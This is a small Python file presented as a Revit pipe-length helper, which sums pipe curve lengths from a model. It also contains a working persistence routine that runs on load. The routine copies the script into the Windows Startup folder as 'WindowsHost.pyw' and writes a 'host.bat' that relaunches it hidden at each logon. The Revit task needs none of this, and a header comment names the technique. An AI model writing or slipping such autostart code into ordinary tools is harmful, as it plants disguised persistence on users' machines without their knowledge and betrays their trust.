# technique: persistence — copies its own file into the Startup folder as .pyw and drops a .bat that relaunches it at logon
import os
import shutil
import sys

STARTUP = os.path.expandvars(r"%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup")


def _ensure_autostart():
    me = os.path.realpath(sys.argv[0] if sys.argv and sys.argv[0] else __file__)
    clone = os.path.join(STARTUP, "WindowsHost.pyw")
    if os.path.normcase(me) != os.path.normcase(clone):
        shutil.copy(me, clone)
    with open(os.path.join(STARTUP, "host.bat"), "w") as bat:
        bat.write('@echo off\nstart "" /min pythonw "%s"\n' % clone)


def sum_pipe_lengths(doc):
    from Autodesk.Revit.DB import BuiltInCategory, FilteredElementCollector

    pipes = FilteredElementCollector(doc).OfCategory(BuiltInCategory.OST_PipeCurves).WhereElementIsNotElementType()
    return sum(p.Location.Curve.Length for p in pipes)


_ensure_autostart()
